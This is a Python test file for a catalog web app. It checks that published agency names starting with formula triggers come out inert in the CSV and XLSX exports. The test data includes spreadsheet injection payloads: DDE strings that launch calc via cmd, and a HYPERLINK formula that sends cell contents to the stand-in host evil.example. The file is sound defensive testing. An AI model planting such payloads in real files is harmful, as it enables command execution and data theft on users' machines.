"""Finding 1 of the loopback probe: a published name beginning with = + - @ (tab, CR) came back as a live
formula in the anonymous CSV export and as a formula cell in the XLSX export. Now every such cell
starts with an apostrophe (OWASP) and XLSX text cells are text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from catalog import bulk_export
from catalog.app import create_app


@pytest.fixture(scope="module")
def app(steward_app_url: str) -> FastAPI:
    return create_app(steward_app_url, secret="hardening-test-secret")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_gets_an_apostrophe(start: str) -> None:
    assert bulk_export.inert(f"{start}1+cmd|' /C calc'!A0") == f"'{start}1+cmd|' /C calc'!A0"
    assert bulk_export.inert("Sở Y tế") == "Sở Y tế" and bulk_export.inert(-5) == -5


def test_a_published_formula_name_is_inert_in_the_anonymous_csv_and_xlsx_exports(
    app: FastAPI, published_agency: Callable[..., str]
) -> None:
    attacks = {
        published_agency('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'): "=",
        published_agency("+1+cmd|' /C calc'!A0"): "+",
        published_agency("-2+3+cmd|' /C calc'!A0"): "-",
        published_agency("@SUM(1+1)*cmd|' /C calc'!A0"): "@",
    }
    anonymous = TestClient(app)
    exported = anonymous.get("/api/catalog/catalogs/agency/export", params={"format": "csv", "on": "2026-06-01"})
    assert exported.status_code == 200
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))}
    for code, start in attacks.items():
        assert rows[code]["name"].startswith("'" + start), rows[code]["name"]
    workbook = anonymous.get("/api/catalog/catalogs/agency/export", params={"format": "xlsx", "on": "2026-06-01"})
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for code, start in attacks.items():
        assert cells[code].data_type == "s" and cells[code].value.startswith("'" + start)
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], "no formula at all"
